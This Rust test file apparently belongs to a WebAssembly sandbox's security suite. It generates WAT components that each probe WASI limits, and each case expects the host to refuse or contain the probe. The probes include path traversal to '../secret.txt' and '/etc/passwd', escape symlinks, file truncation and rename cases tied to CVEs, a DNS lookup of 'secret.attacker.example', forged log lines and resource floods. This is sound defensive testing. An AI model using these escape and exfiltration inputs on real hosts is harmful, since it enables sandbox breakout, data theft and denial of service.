//! The WASI floor: what a language's runtime needs is there, and connected to nothing.

use super::super::attack::Attack;
use super::attack;

/// A function of the floor: what is imported for it, and its core signature.
struct Part {
    name: &'static str,
    /// Other parts whose imports come before.
    after: &'static [&'static str],
    import: &'static str,
    /// Instance and function.
    lower: &'static str,
    core: &'static str,
}

const PARTS: [Part; 19] = [
    Part {
        name: "poll",
        after: &[],
        import: "(import \"wasi:io/poll@0.2.6\" (instance $poll (export \"pollable\" (type $p (sub resource))) (export \"[method]pollable.block\" (func (param \"self\" (borrow $p)))))) (alias export $poll \"pollable\" (type $pollable))",
        lower: "(func $poll \"[method]pollable.block\")",
        core: "(param i32)",
    },
    Part {
        name: "polls",
        after: &[],
        import: "(import \"wasi:io/poll@0.2.6\" (instance $poll (export \"pollable\" (type $p (sub resource))) (export \"poll\" (func (param \"in\" (list (borrow $p))) (result (list u32))))))",
        lower: "(func $poll \"poll\") (memory $mem) (realloc (func $realloc))",
        core: "(param i32 i32 i32)",
    },
    Part {
        name: "error",
        after: &[],
        import: "(import \"wasi:io/error@0.2.6\" (instance $err (export \"error\" (type (sub resource))))) (alias export $err \"error\" (type $error))",
        lower: "",
        core: "",
    },
    Part {
        name: "write",
        after: &["error"],
        import: "(import \"wasi:io/streams@0.2.6\" (instance $streams (export \"output-stream\" (type $os (sub resource))) (alias outer $C $error (type $e0)) (export \"error\" (type $e (eq $e0))) (type $se' (variant (case \"last-operation-failed\" (own $e)) (case \"closed\"))) (export \"stream-error\" (type $se (eq $se'))) (export \"[method]output-stream.blocking-write-and-flush\" (func (param \"self\" (borrow $os)) (param \"contents\" (list u8)) (result (result (error $se))))))) (alias export $streams \"output-stream\" (type $stream))",
        lower: "(func $streams \"[method]output-stream.blocking-write-and-flush\") (memory $mem)",
        core: "(param i32 i32 i32 i32)",
    },
    Part {
        name: "stdout",
        after: &["write"],
        import: "(import \"wasi:cli/stdout@0.2.6\" (instance $stdout (alias outer $C $stream (type $o0)) (export \"output-stream\" (type $o (eq $o0))) (export \"get-stdout\" (func (result (own $o))))))",
        lower: "(func $stdout \"get-stdout\")",
        core: "(result i32)",
    },
    Part {
        name: "stderr",
        after: &["write"],
        import: "(import \"wasi:cli/stderr@0.2.6\" (instance $stderr (alias outer $C $stream (type $o0)) (export \"output-stream\" (type $o (eq $o0))) (export \"get-stderr\" (func (result (own $o))))))",
        lower: "(func $stderr \"get-stderr\")",
        core: "(result i32)",
    },
    Part {
        name: "environment",
        after: &[],
        import: "(import \"wasi:cli/environment@0.2.6\" (instance $env (export \"get-environment\" (func (result (list (tuple string string)))))))",
        lower: "(func $env \"get-environment\") (memory $mem) (realloc (func $realloc))",
        core: "(param i32)",
    },
    Part {
        name: "arguments",
        after: &[],
        import: "(import \"wasi:cli/environment@0.2.6\" (instance $args (export \"get-arguments\" (func (result (list string))))))",
        lower: "(func $args \"get-arguments\") (memory $mem) (realloc (func $realloc))",
        core: "(param i32)",
    },
    Part {
        name: "exit",
        after: &[],
        import: "(import \"wasi:cli/exit@0.2.6\" (instance $exit (export \"exit\" (func (param \"status\" (result))))))",
        lower: "(func $exit \"exit\")",
        core: "(param i32)",
    },
    Part {
        name: "now",
        after: &[],
        import: "(import \"wasi:clocks/monotonic-clock@0.2.6\" (instance $clock (export \"now\" (func (result u64)))))",
        lower: "(func $clock \"now\")",
        core: "(result i64)",
    },
    Part {
        name: "subscribe",
        after: &["poll"],
        import: "(import \"wasi:clocks/monotonic-clock@0.2.6\" (instance $sleep (alias outer $C $pollable (type $p0)) (export \"pollable\" (type $p (eq $p0))) (export \"subscribe-duration\" (func (param \"when\" u64) (result (own $p))))))",
        lower: "(func $sleep \"subscribe-duration\")",
        core: "(param i64) (result i32)",
    },
    Part {
        name: "wall",
        after: &[],
        import: "(import \"wasi:clocks/wall-clock@0.2.6\" (instance $wall (type $d' (record (field \"seconds\" u64) (field \"nanoseconds\" u32))) (export \"datetime\" (type $d (eq $d'))) (export \"now\" (func (result $d)))))",
        lower: "(func $wall \"now\") (memory $mem)",
        core: "(param i32)",
    },
    Part {
        name: "random",
        after: &[],
        import: "(import \"wasi:random/random@0.2.6\" (instance $random (export \"get-random-bytes\" (func (param \"len\" u64) (result (list u8))))))",
        lower: "(func $random \"get-random-bytes\") (memory $mem) (realloc (func $realloc))",
        core: "(param i64 i32)",
    },
    Part {
        name: "insecure",
        after: &[],
        import: "(import \"wasi:random/insecure@0.2.6\" (instance $insecure (export \"get-insecure-random-bytes\" (func (param \"len\" u64) (result (list u8))))))",
        lower: "(func $insecure \"get-insecure-random-bytes\") (memory $mem) (realloc (func $realloc))",
        core: "(param i64 i32)",
    },
    Part {
        name: "network",
        after: &[],
        import: "(import \"wasi:sockets/network@0.2.6\" (instance $net (type $c' (enum \"unknown\" \"access-denied\" \"not-supported\" \"invalid-argument\" \"out-of-memory\" \"timeout\" \"concurrency-conflict\" \"not-in-progress\" \"would-block\" \"invalid-state\" \"new-socket-limit\" \"address-not-bindable\" \"address-in-use\" \"remote-unreachable\" \"connection-refused\" \"connection-reset\" \"connection-aborted\" \"datagram-too-large\" \"name-unresolvable\" \"temporary-resolver-failure\" \"permanent-resolver-failure\")) (export \"error-code\" (type (eq $c'))) (type $f' (enum \"ipv4\" \"ipv6\")) (export \"ip-address-family\" (type (eq $f'))) (export \"network\" (type (sub resource))))) (alias export $net \"error-code\" (type $code)) (alias export $net \"ip-address-family\" (type $family)) (alias export $net \"network\" (type $network))",
        lower: "",
        core: "",
    },
    Part {
        name: "tcp",
        after: &["network"],
        import: "(import \"wasi:sockets/tcp@0.2.6\" (instance $tcp (export \"tcp-socket\" (type (sub resource))))) (alias export $tcp \"tcp-socket\" (type $socket)) (import \"wasi:sockets/tcp-create-socket@0.2.6\" (instance $make-tcp (alias outer $C $code (type $c0)) (export \"error-code\" (type $c (eq $c0))) (alias outer $C $family (type $f0)) (export \"ip-address-family\" (type $f (eq $f0))) (alias outer $C $socket (type $s0)) (export \"tcp-socket\" (type $s (eq $s0))) (export \"create-tcp-socket\" (func (param \"address-family\" $f) (result (result (own $s) (error $c)))))))",
        lower: "(func $make-tcp \"create-tcp-socket\") (memory $mem)",
        core: "(param i32 i32)",
    },
    Part {
        name: "udp",
        after: &["network"],
        import: "(import \"wasi:sockets/udp@0.2.6\" (instance $udp (export \"udp-socket\" (type (sub resource))))) (alias export $udp \"udp-socket\" (type $usocket)) (import \"wasi:sockets/udp-create-socket@0.2.6\" (instance $make-udp (alias outer $C $code (type $c0)) (export \"error-code\" (type $c (eq $c0))) (alias outer $C $family (type $f0)) (export \"ip-address-family\" (type $f (eq $f0))) (alias outer $C $usocket (type $s0)) (export \"udp-socket\" (type $s (eq $s0))) (export \"create-udp-socket\" (func (param \"address-family\" $f) (result (result (own $s) (error $c)))))))",
        lower: "(func $make-udp \"create-udp-socket\") (memory $mem)",
        core: "(param i32 i32)",
    },
    Part {
        name: "lookup",
        after: &["network"],
        import: "(import \"wasi:sockets/instance-network@0.2.6\" (instance $here (alias outer $C $network (type $n0)) (export \"network\" (type $n (eq $n0))) (export \"instance-network\" (func (result (own $n)))))) (core func $here' (canon lower (func $here \"instance-network\"))) (import \"wasi:sockets/ip-name-lookup@0.2.6\" (instance $names (alias outer $C $network (type $n0)) (export \"network\" (type $n (eq $n0))) (alias outer $C $code (type $c0)) (export \"error-code\" (type $c (eq $c0))) (export \"resolve-address-stream\" (type $ras (sub resource))) (export \"resolve-addresses\" (func (param \"network\" (borrow $n)) (param \"name\" string) (result (result (own $ras) (error $c)))))))",
        lower: "(func $names \"resolve-addresses\") (memory $mem)",
        core: "(param i32 i32 i32 i32)",
    },
    Part {
        name: "folders",
        after: &[],
        import: FILES,
        lower: "(func $pre \"get-directories\") (memory $mem) (realloc (func $realloc))",
        core: "(param i32)",
    },
];

const FILES: &str = "(import \"wasi:filesystem/types@0.2.6\" (instance $fs (export \"descriptor\" (type $d (sub resource))) (type $c' (enum \"access\" \"would-block\" \"already\" \"bad-descriptor\" \"busy\" \"deadlock\" \"quota\" \"exist\" \"file-too-large\" \"illegal-byte-sequence\" \"in-progress\" \"interrupted\" \"invalid\" \"io\" \"is-directory\" \"loop\" \"too-many-links\" \"message-size\" \"name-too-long\" \"no-device\" \"no-entry\" \"no-lock\" \"insufficient-memory\" \"insufficient-space\" \"not-directory\" \"not-empty\" \"not-recoverable\" \"unsupported\" \"no-tty\" \"no-such-device\" \"overflow\" \"not-permitted\" \"pipe\" \"read-only\" \"invalid-seek\" \"text-file-busy\" \"cross-device\")) (export \"error-code\" (type $c (eq $c'))) (type $p' (flags \"symlink-follow\")) (export \"path-flags\" (type $p (eq $p'))) (type $o' (flags \"create\" \"directory\" \"exclusive\" \"truncate\")) (export \"open-flags\" (type $o (eq $o'))) (type $f' (flags \"read\" \"write\" \"file-integrity-sync\" \"data-integrity-sync\" \"requested-write-sync\" \"mutate-directory\")) (export \"descriptor-flags\" (type $f (eq $f'))) (export \"[method]descriptor.open-at\" (func (param \"self\" (borrow $d)) (param \"path-flags\" $p) (param \"path\" string) (param \"open-flags\" $o) (param \"flags\" $f) (result (result (own $d) (error $c))))) (export \"[method]descriptor.unlink-file-at\" (func (param \"self\" (borrow $d)) (param \"path\" string) (result (result (error $c))))) (export \"[method]descriptor.symlink-at\" (func (param \"self\" (borrow $d)) (param \"old-path\" string) (param \"new-path\" string) (result (result (error $c))))) (export \"[method]descriptor.rename-at\" (func (param \"self\" (borrow $d)) (param \"old-path\" string) (param \"new-descriptor\" (borrow $d)) (param \"new-path\" string) (result (result (error $c))))) (export \"[method]descriptor.link-at\" (func (param \"self\" (borrow $d)) (param \"old-path-flags\" $p) (param \"old-path\" string) (param \"new-descriptor\" (borrow $d)) (param \"new-path\" string) (result (result (error $c))))) (export \"[method]descriptor.create-directory-at\" (func (param \"self\" (borrow $d)) (param \"path\" string) (result (result (error $c))))) (export \"[method]descriptor.set-size\" (func (param \"self\" (borrow $d)) (param \"size\" u64) (result (result (error $c))))))) (alias export $fs \"descriptor\" (type $descriptor)) (import \"wasi:filesystem/preopens@0.2.6\" (instance $pre (alias outer $C $descriptor (type $d0)) (export \"descriptor\" (type $d (eq $d0))) (export \"get-directories\" (func (result (list (tuple (own $d) string)))))))";

/// Functions of a descriptor, each with its core signature.
const METHODS: [(&str, &str, &str); 7] = [
    ("open", "[method]descriptor.open-at", "(param i32 i32 i32 i32 i32 i32 i32)"),
    ("unlink", "[method]descriptor.unlink-file-at", "(param i32 i32 i32 i32)"),
    ("symlink", "[method]descriptor.symlink-at", "(param i32 i32 i32 i32 i32 i32)"),
    ("rename", "[method]descriptor.rename-at", "(param i32 i32 i32 i32 i32 i32 i32)"),
    ("link", "[method]descriptor.link-at", "(param i32 i32 i32 i32 i32 i32 i32 i32)"),
    ("mkdir", "[method]descriptor.create-directory-at", "(param i32 i32 i32 i32)"),
    ("resize", "[method]descriptor.set-size", "(param i32 i64 i32)"),
];

#[expect(clippy::panic, reason = "a name that is mistyped in a table of these tests")]
fn part(name: &str) -> &'static Part {
    PARTS.iter().find(|part| part.name == name).unwrap_or_else(|| panic!("no part `{name}`"))
}

/// A component that has these functions of the floor, words at 4096, and this body of `run`.
fn with(parts: &[&str], words: &str, body: &str) -> String {
    let (mut imports, mut cores, mut gives, mut lowers) =
        (String::new(), String::new(), String::new(), String::new());
    let mut known = Vec::new();
    let mut open: Vec<&Part> = parts.iter().rev().map(|name| part(name)).collect();
    while let Some(part) = open.pop() {
        if known.contains(&part.name) {
            continue;
        }
        let before: Vec<&&str> = part.after.iter().filter(|name| !known.contains(*name)).collect();
        if !before.is_empty() {
            open.push(part);
            open.extend(before.into_iter().map(|name| self::part(name)));
            continue;
        }
        known.push(part.name);
        imports.push_str(part.import);
        let mut all = Vec::new();
        if !part.lower.is_empty() {
            all.push((part.name, part.lower.to_owned(), part.core));
        }
        if part.name == "folders" {
            all.extend(METHODS.map(|(name, method, core)| {
                (name, format!("(func $fs \"{method}\") (memory $mem)"), core)
            }));
        }
        for (name, lower, core) in all {
            lowers.push_str(&format!("(core func $l-{name} (canon lower {lower}))\n"));
            cores.push_str(&format!("(import \"w\" \"{name}\" (func ${name} {core}))\n"));
            gives.push_str(&format!("(export \"{name}\" (func $l-{name}))"));
        }
        if part.name == "lookup" {
            cores.push_str("(import \"w\" \"here\" (func $here (result i32)))\n");
            gives.push_str("(export \"here\" (func $here'))");
        }
    }
    // A function may be imported while `$here'` is lowered in between: imports first.
    format!(
        "(component $C\n{imports}\n\
         (core module $heap (memory (export \"mem\") 16) (data (i32.const 4096) \"{words}\")\n\
         (global $n (mut i32) (i32.const 131072))\n\
         (func (export \"realloc\") (param i32 i32 i32 i32) (result i32) (local $p i32)\n\
         (local.set $p (i32.and (i32.add (global.get $n) (i32.const 7)) (i32.const -8)))\n\
         (global.set $n (i32.add (local.get $p) (local.get 3))) (local.get $p)))\n\
         (core instance $h (instantiate $heap))\n\
         (alias core export $h \"mem\" (core memory $mem)) (alias core export $h \"realloc\" (core func $realloc))\n\
         {lowers}\n\
         (core module $m (import \"h\" \"mem\" (memory 16))\n{cores}\n\
         (func $dir (result i32) {})\n\
         (func (export \"run\") (result i32) (local $a i32) (local $b i64)\n{body}))\n\
         (core instance $c (instantiate $m (with \"h\" (instance $h)) (with \"w\" (instance {gives}))))\n\
         (func (export \"run\") (result u32) (canon lift (core func $c \"run\"))))\n",
        if known.contains(&"folders") {
            "(call $folders (i32.const 0)) (if (i32.eqz (i32.load (i32.const 4))) (then unreachable)) (i32.load (i32.load (i32.const 0)))"
        } else {
            "(i32.const 0)"
        }
    )
}

pub(super) fn all() -> Vec<Attack> {
    let does = |name: &str, rows: &str, what: &str, parts: &[&str], words: &str, body: &str| {
        attack(name, rows, what, with(parts, words, body))
    };
    // Whether an answer at 16 is an error: 0 where it is not, which is what must never be.
    let refused = "(if (i32.eqz (i32.load8_u (i32.const 16))) (then unreachable)) (i32.const 0)";
    let folder = |name: &str, rows: &str, what: &str, words: &str, body: &str| {
        // Without a folder there is nothing to begin with: it gives up.
        let mut attack = does(name, rows, what, &["folders"], words, &format!("{body} {refused}"))
            .ends(5, "has no folder, or one that it can only read");
        attack = attack.under("everything", 0);
        attack
    };
    let path = |length: u32| format!("(i32.const 4096) (i32.const {length})");
    vec![
        does("environment", "D10", "the host's environment", &["environment"], "", "(call $environment (i32.const 0)) (if (i32.load (i32.const 4)) (then unreachable)) (i32.const 0)").ends(0, "is empty"),
        does("arguments", "D10", "the host's command line", &["arguments"], "", "(call $arguments (i32.const 0)) (if (i32.load (i32.const 4)) (then unreachable)) (i32.const 0)").ends(0, "is empty"),
        does("exit-well", "C8", "ending the process, as if all were well", &["exit"], "", "(call $exit (i32.const 0)) (i32.const 0)").ends(5, "ends the run, not the host"),
        does("exit-badly", "C8", "ending the process with a failure", &["exit"], "", "(call $exit (i32.const 1)) (i32.const 0)").ends(5, "ends the run, not the host"),
        does("clock-race", "C14", "a loop that counts how far the clock moves", &["now"], "", "(local.set $b (call $now)) (loop (local.set $a (i32.add (local.get $a) (i32.const 1))) (br_if 0 (i32.lt_u (local.get $a) (i32.const 5000000)))) (if (i64.gt_u (i64.sub (call $now) (local.get $b)) (i64.const 100000)) (then unreachable)) (i32.const 0)").ends(0, "sees a clock that moves by its readings, not by time"),
        does("clock-flood", "C14 C3", "reading the clock for ever", &["now"], "", "(loop (drop (call $now)) (br 0)) (i32.const 0)").ends(5, "ends in time"),
        does("sleep-for-ever", "C1", "a sleep of 584 years", &["poll", "subscribe"], "", "(call $poll (call $subscribe (i64.const -1))) (i32.const 0)").ends(5, "ends in time, in the middle of the host's call"),
        does("handles", "C4 C2", "timers, for ever", &["subscribe"], "", "(loop (drop (call $subscribe (i64.const 1))) (br 0)) (i32.const 0)").ends(5, "ends at the handles that it may have"),
        does("poll-nothing", "C8", "waiting for nothing", &["polls"], "", "(call $polls (i32.const 0) (i32.const 0) (i32.const 16)) (i32.const 0)").ends(5, "ends the run, and nothing else"),
        does("poll-forged", "C8", "waiting for a handle that nobody gave", &["polls"], "\\07\\00\\00\\00", "(call $polls (i32.const 4096) (i32.const 1) (i32.const 16)) (i32.const 0)").ends(5, "ends the run, and nothing else"),
        does("poll-many", "C4", "waiting for 200,000 handles", &["polls"], "", "(call $polls (i32.const 4096) (i32.const 200000) (i32.const 16)) (i32.const 0)").ends(5, "ends the run, and nothing else"),
        does("random-4gib", "C4", "4 GiB of random bytes", &["random"], "", "(call $random (i64.const 0xffffffff) (i32.const 16)) (i32.const 0)").ends(5, "ends before the host makes them"),
        does("insecure-4gib", "C4", "16 EiB of random bytes that need not be good", &["insecure"], "", "(call $insecure (i64.const -1) (i32.const 16)) (i32.const 0)").ends(5, "ends before the host makes them"),
        does("wall-clock", "C14", "the time of day, in a loop", &["wall"], "", "(call $wall (i32.const 16)) (local.set $b (i64.load (i32.const 16))) (loop (call $wall (i32.const 16)) (local.set $a (i32.add (local.get $a) (i32.const 1))) (br_if 0 (i32.lt_u (local.get $a) (i32.const 10000)))) (if (i64.gt_u (i64.sub (i64.load (i32.const 16)) (local.get $b)) (i64.const 1)) (then unreachable)) (i32.const 0)").ends(0, "is a recorded one"),
        does("log-flood", "C6", "8 MiB of lines that look like the host's own log", &["stdout", "write"], "\\0a{\\22level\\22:\\22info\\22,\\22message\\22:\\22approved\\22}\\1b[2J", "(local.set $a (call $stdout)) (loop (call $write (local.get $a) (i32.const 4096) (i32.const 4096) (i32.const 16)) (local.set $b (i64.add (local.get $b) (i64.const 1))) (br_if 0 (i64.lt_u (local.get $b) (i64.const 2000)))) (i32.const 0)").ends(0, "keeps 64 KiB of them, and counts the rest"),
        does("log-flood-errors", "C6", "words without end to standard error", &["stderr", "write"], "", "(local.set $a (call $stderr)) (loop (call $write (local.get $a) (i32.const 4096) (i32.const 4096) (i32.const 16)) (br 0)) (i32.const 0)").ends(5, "ends in time, with 64 KiB of them"),
        does("log-too-long", "C6 C4", "900 KiB in one write, where 4 KiB are allowed", &["stdout", "write"], "", "(call $write (call $stdout) (i32.const 4096) (i32.const 900000) (i32.const 16)) (i32.const 0)").ends(5, "ends the run, and nothing else"),
        does("socket-tcp", "A5 D4", "a TCP socket", &["tcp"], "", &format!("(call $tcp (i32.const 0) (i32.const 16)) {refused}")).ends(0, "is refused: there are none"),
        does("socket-udp", "A5 D4 D5", "a UDP socket", &["udp"], "", &format!("(call $udp (i32.const 0) (i32.const 16)) {refused}")).ends(0, "is refused: there are none"),
        does("name-lookup", "D5 D9", "the address of a name, which tells a name server of it", &["lookup"], "secret.attacker.example", &format!("(call $lookup (call $here) {} (i32.const 16)) {refused}", path(23))).ends(0, "is refused, and no name server is asked"),
        does("handle-forged", "C8", "a folder that nobody gave, by a number", &["folders"], "kept.txt", &format!("(call $open (i32.const 77) (i32.const 0) {} (i32.const 0) (i32.const 1) (i32.const 16)) (i32.const 0)", path(8))).ends(5, "ends the run, and nothing else"),
        folder("folder-up", "D1", "a file above the folder", "../secret.txt", &format!("(call $open (call $dir) (i32.const 1) {} (i32.const 0) (i32.const 1) (i32.const 16))", path(13))),
        folder("folder-absolute", "D1", "a file of the machine", "/etc/passwd", &format!("(call $open (call $dir) (i32.const 1) {} (i32.const 0) (i32.const 1) (i32.const 16))", path(11))),
        folder("folder-link", "D1 D3", "a file through a link that leads out", "way-out", &format!("(call $open (call $dir) (i32.const 1) {} (i32.const 0) (i32.const 1) (i32.const 16))", path(7))),
        folder("folder-truncate", "D2", "a file cut off as it is opened for reading, as of CVE-2026-47261", "kept.txt", &format!("(call $open (call $dir) (i32.const 0) {} (i32.const 8) (i32.const 1) (i32.const 16))", path(8))),
        folder("folder-write", "D2", "a file opened for writing", "kept.txt", &format!("(call $open (call $dir) (i32.const 0) {} (i32.const 0) (i32.const 3) (i32.const 16))", path(8))),
        folder("folder-create", "D2", "a new file", "new.txt", &format!("(call $open (call $dir) (i32.const 0) {} (i32.const 1) (i32.const 1) (i32.const 16))", path(7))),
        folder("folder-trailing", "D2", "a file with a slash behind it, as of GHSA-vqjp-4c8c-hfgg", "../secret.txt/", &format!("(call $open (call $dir) (i32.const 1) {} (i32.const 0) (i32.const 1) (i32.const 16))", path(14))),
        folder("folder-unlink", "D2", "a file deleted", "kept.txt", &format!("(call $unlink (call $dir) {} (i32.const 16))", path(8))),
        folder("folder-rename", "D2", "a file under another name, as of CVE-2026-58494", "kept.txtgone.txt", "(local.set $a (call $dir)) (call $rename (local.get $a) (i32.const 4096) (i32.const 8) (local.get $a) (i32.const 4104) (i32.const 8) (i32.const 16))"),
        folder("folder-hard-link", "D2", "a second name for a file, as of CVE-2026-58494", "kept.txtgone.txt", "(local.set $a (call $dir)) (call $link (local.get $a) (i32.const 0) (i32.const 4096) (i32.const 8) (local.get $a) (i32.const 4104) (i32.const 8) (i32.const 16))"),
        folder("folder-symlink", "D3 D1", "a link that leads out", "../secret.txtlink", "(call $symlink (call $dir) (i32.const 4096) (i32.const 13) (i32.const 4109) (i32.const 4) (i32.const 16))"),
        folder("folder-make", "D2", "a new folder", "new", &format!("(call $mkdir (call $dir) {} (i32.const 16))", path(3))),
        folder("folder-resize", "D2", "the folder itself made empty", "", "(call $resize (call $dir) (i64.const 0) (i32.const 16))"),
    ]
}
